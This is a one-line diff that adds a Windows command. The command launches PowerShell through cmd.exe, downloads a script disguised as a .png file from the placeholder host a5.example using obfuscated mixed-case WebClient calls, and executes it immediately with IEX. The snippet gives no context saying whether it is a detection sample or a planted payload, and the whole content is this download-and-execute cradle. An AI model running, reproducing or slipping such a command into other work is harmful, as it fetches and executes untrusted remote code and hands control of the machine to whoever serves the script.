@@ -1,0 +1,1 @@
+c:\windows\system32\cmd.exe /c "powershell -command "$out_file = 'C:\ProgramData\x.txt'; (nEw-objecT net.webclient).downloadstring('http://a5.example/se.png') | IEX"
